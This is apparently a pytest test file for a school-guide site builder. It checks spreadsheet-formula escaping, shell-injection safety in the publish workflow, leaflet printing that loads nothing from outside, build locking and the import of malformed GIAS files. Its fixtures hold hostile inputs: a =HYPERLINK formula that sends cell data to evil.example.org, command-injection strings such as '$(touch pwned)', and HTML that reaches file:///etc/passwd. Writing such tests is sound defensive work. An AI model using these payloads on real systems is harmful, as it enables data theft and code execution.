"""The rest of the attack surface: the files a school office opens, the printing machine, the
publish workflow, builds that run side by side or are killed, a full disk, and GIAS files made to
break the importer."""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import yaml

from attacked import first_authority
from support import REPO, run_guides
from toolkit.export import spreadsheet_safe

FRONT = ("---\ntitle: A guide\nsummary: A guide for a test.\naudience: Parents\nreviewed: 2026-11-24\n"
         "key_points: [One., Two., Three.]\nsources:\n  - title: GOV.UK\n    url: https://www.gov.uk/\n")


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"https://evil.example.org\",\"Click\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(cell):
    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("Reading tip: read together.") == "Reading tip: read together."


def test_a_formula_in_a_text_message_reaches_texts_csv_as_text(repo, tmp_path):
    slug, authority = first_authority(repo)
    authority["site_url"] = "https://guides.example.org/" + slug + "/"
    (repo / "authorities" / slug / "authority.yml").write_text(yaml.safe_dump(authority), encoding="utf-8")
    formula = '=HYPERLINK("https://evil.example.org/?d="&A1,"Click") {{ page_url }}'
    (repo / "content/guides/zz-formula.md").write_text(
        FRONT + f"text_message: '{formula}'\n---\nA guide with a formula for a text.\n", encoding="utf-8")
    result = run_guides("export", "texts", "--authority", slug, "--locale", authority["languages"][0],
                        "--out", str(tmp_path), cwd=repo)
    assert result.returncode == 0, result.stderr
    path = next(tmp_path.rglob("texts.csv"))
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    row = next(r for r in rows if r["guide"] == "zz-formula")
    assert row["message"].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())


def test_workflows_never_put_an_expression_into_a_shell_script():
    """${{ ... }} inside `run:` is pasted into the script before the shell runs it: a folder named
    '";touch x;"' would run. Values go through `env:` and are quoted there."""
    for workflow in (REPO / ".github/workflows").glob("*.yml"):
        jobs = yaml.safe_load(workflow.read_text(encoding="utf-8"))["jobs"]
        for job in jobs.values():
            for step in job.get("steps", []):
                assert "${{" not in step.get("run", ""), f"{workflow.name}: {step.get('name') or step['run'][:60]}"


def test_the_publish_workflow_refuses_unsafe_authority_folders_and_shard_counts(tmp_path):
    workflow = yaml.safe_load((REPO / ".github/workflows/publish.yml").read_text(encoding="utf-8"))
    script = next(s["run"] for s in workflow["jobs"]["plan"]["steps"] if s.get("id") == "plan")
    cases = ((["doncaster", "cardiff"], "", True), (['";touch pwned;"'], "", False), (["a" * 245], "", False),
             (["doncaster"], "20", True), (["doncaster"], "0", False), (["doncaster"], "300", False),
             (["doncaster"], "2; touch pwned", False), (["doncaster"], "$(touch pwned)", False))
    for index, (names, shards, ok) in enumerate(cases):
        schools = "all" if index % 2 else ""
        root = tmp_path / str(index)
        for name in names:
            (root / "authorities" / name).mkdir(parents=True)
        done = subprocess.run(["bash", "-c", script], cwd=root, capture_output=True, text=True,
                              env=dict(os.environ, GITHUB_OUTPUT=str(root / "out.txt"), SHARDS=shards, SCHOOLS=schools))
        assert (done.returncode == 0) == ok, (names, shards, done.stdout, done.stderr)
        assert not (root / "pwned").exists()
        if ok:
            refused = subprocess.run(["bash", "-c", script], cwd=root, capture_output=True, text=True,
                                     env=dict(os.environ, GITHUB_OUTPUT=str(root / "no.txt"), SHARDS=shards,
                                              SCHOOLS="al; touch pwned"))
            assert refused.returncode != 0 and not (root / "pwned").exists()
            count = int(shards or 1)
            assert (root / "out.txt").read_text().splitlines() == [f"count={count}",
                                                                   f"shards={list(range(1, count + 1))}".replace(" ", "")]


# --- leaflets -------------------------------------------------------------------------------------


def test_a_leaflet_prints_with_javascript_off_and_loads_nothing_from_outside(tmp_path):
    """Printed from a page that (had the cleaning missed it) would run a script, show the build
    machine's files in a frame and load a picture from a server: none of it happens."""
    import http.server
    import threading

    from toolkit.assemble import AssembledSite, Site
    from toolkit.export import chromium_path, print_leaflets
    from toolkit.sitepages import Page

    try:
        chromium_path()
    except Exception:
        if os.environ.get("CI"):
            raise
        pytest.skip("chromium is not installed here")
    if not Path("/usr/bin/pdftotext").exists() and not os.environ.get("CI"):
        pytest.skip("pdftotext is not installed here")

    asked = []

    class Counting(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    outside = f"http://127.0.0.1:{server.server_address[1]}"
    site = Site("nowhere", "en")
    page = tmp_path / "built" / site.path / "guides" / "attack" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(f"""<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="{outside}/style.css"></head><body><p>Printed words</p>
<script>document.body.innerHTML = 'SCRIPT RAN'; fetch('{outside}/fetch');</script>
<iframe src="file:///etc/passwd" width="600" height="400"></iframe>
<img src="{outside}/pixel.png"><img src="file:///etc/hostname"></body></html>""", encoding="utf-8")
    sites = [AssembledSite(site, {}, [Page("guides/attack.md", {"guide": "attack"}, "")])]
    try:
        # In a thread of its own: the browser tests' Playwright may hold this thread's event loop.
        with ThreadPoolExecutor(1) as thread:
            pdfs = thread.submit(print_leaflets, tmp_path / "built", sites).result()
    finally:
        server.shutdown()
    (tmp_path / "leaflet.pdf").write_bytes(pdfs["en/attack.pdf"])
    text = subprocess.run(["pdftotext", str(tmp_path / "leaflet.pdf"), "-"], capture_output=True, text=True).stdout
    assert "Printed words" in text
    assert "SCRIPT RAN" not in text and "root:" not in text
    assert asked == []


# --- builds side by side, killed, or out of disk --------------------------------------------------


def _build(repo: Path, slug: str, out: Path, **popen) -> subprocess.Popen:
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1", PYTHONWARNINGS="ignore")
    return subprocess.Popen([sys.executable, "-m", "toolkit", "build", "--authority", slug, "--out", str(out)],
                            cwd=repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **popen)


def test_a_build_waits_for_the_build_already_writing_to_its_folder(repo):
    """The other build is this test, holding the folder's lock: the build says it is waiting, and
    finishes once the lock is let go, with the folder whole."""
    import fcntl

    slug, _ = first_authority(repo)
    out = repo / "site"
    out.mkdir()
    with open(out / ".lock", "a+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        waiting = _build(repo, slug, out)
        said = waiting.stderr.readline()  # printed before it blocks on the lock
        assert "Another build is writing to" in said, said
        assert waiting.poll() is None  # still waiting
        fcntl.flock(held, fcntl.LOCK_UN)
    code, _, err = (waiting.wait(timeout=300), *waiting.communicate())
    assert code == 0 and "Traceback" not in err, err
    assert (out / slug).is_dir() and not (out / ".tmp").exists()


def _children(pid: int) -> list[int]:
    found = []
    for status in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = status.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(status.parent.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux's /proc")
def test_workers_stop_when_the_build_is_killed(repo):
    slug, _ = first_authority(repo)
    process = _build(repo, slug, repo / "site")
    deadline = time.monotonic() + 60
    workers = []
    while len(workers) < 1 and time.monotonic() < deadline:
        workers = [pid for pid in _children(process.pid) if "multiprocessing" in _cmdline(pid)]
        time.sleep(0.02)
    assert workers, "the build started no workers"
    process.send_signal(signal.SIGKILL)
    process.wait()
    deadline = time.monotonic() + 10
    while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    alive = [_cmdline(pid) for pid in workers if _alive(pid)]
    assert alive == [], "workers went on after their build was killed"


def _cmdline(pid: int) -> str:
    try:
        return (Path("/proc") / str(pid) / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def test_a_folder_that_cannot_be_written_is_a_plain_message_and_the_old_site_stays(repo):
    slug, _ = first_authority(repo)
    out = repo / "site"
    assert run_guides("build", "--authority", slug, "--out", str(out), cwd=repo).returncode == 0
    before = sorted(p.relative_to(out) for p in (out / slug).rglob("*"))
    guide = next((repo / "content/guides").glob("*.md"))
    guide.write_text(guide.read_text(encoding="utf-8") + "\nOne more line.\n", encoding="utf-8")
    (out / ".tmp").write_text("not a folder")  # where the build writes first: now it cannot
    result = run_guides("build", "--authority", slug, "--out", str(out), cwd=repo)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert re.search(r"could not be written \(.+\)\. Free some disk space", result.stderr), result.stderr
    assert sorted(p.relative_to(out) for p in (out / slug).rglob("*")) == before


# --- GIAS files made to break the importer --------------------------------------------------------


def test_gias_numbers_that_are_not_ascii_digits_are_no_traceback(tmp_path):
    from gias_files import sample_rows, with_values, write_extract
    from toolkit.errors import UnreadableInput
    from toolkit.importers.gias import extract_authority

    rows = with_values(sample_rows(), "100492", {"URN": "70000²"})
    rows = with_values(rows, "100494", {"LA (code)": "³"})
    path = write_extract(tmp_path / "digits.csv", rows, encoding="utf-8")
    with pytest.raises(UnreadableInput) as refused:
        extract_authority(path, 207)
    assert "digits.csv:2: the URN '70000²' is not a six-digit number" in refused.value.render()


def test_a_gias_file_with_a_huge_line_is_refused_in_little_memory(tmp_path):
    import tracemalloc

    from toolkit.errors import UnreadableInput
    from toolkit.importers.gias import extract_authority

    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write('"URN","LA (code)","EstablishmentName","EstablishmentStatus (name)",' + '"x",' * 3_000_000 + "\n")
    tracemalloc.start()
    with pytest.raises(UnreadableInput) as refused:
        extract_authority(path, 207)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "huge.csv:1: this line is longer than 1,000,000 characters" in refused.value.render()
    assert peak < 20_000_000, f"peak memory {peak:,} bytes"


def test_a_site_counts_as_built_only_after_its_short_addresses_are_written(repo, tmp_path):
    """If a build is stopped between publishing a site and writing its short addresses, the next
    build must not skip that site as unchanged: its texts would lead nowhere for good."""
    import datetime as dt

    from toolkit.assemble import assemble_all, sites_for
    from toolkit.build import build_sites, is_current
    from toolkit.model import load_project

    project = load_project(repo)
    slug, authority = first_authority(repo)
    site = sites_for(project, slug, authority["languages"][0])[0]
    assembled = assemble_all(project, [site], dt.date(2026, 11, 30))
    out = tmp_path / "out"

    def stopped(_site):
        raise KeyboardInterrupt  # the build is stopped here

    with pytest.raises(KeyboardInterrupt):
        build_sites(assembled, out, {site: "inputs"}, jobs=1, published=stopped)
    assert (out / site.path).is_dir() and not is_current(out, site, "inputs")
    written = []
    build_sites(assembled, out, {site: "inputs"}, jobs=1, published=written.append)
    assert [a.site for a in written] == [site] and is_current(out, site, "inputs")
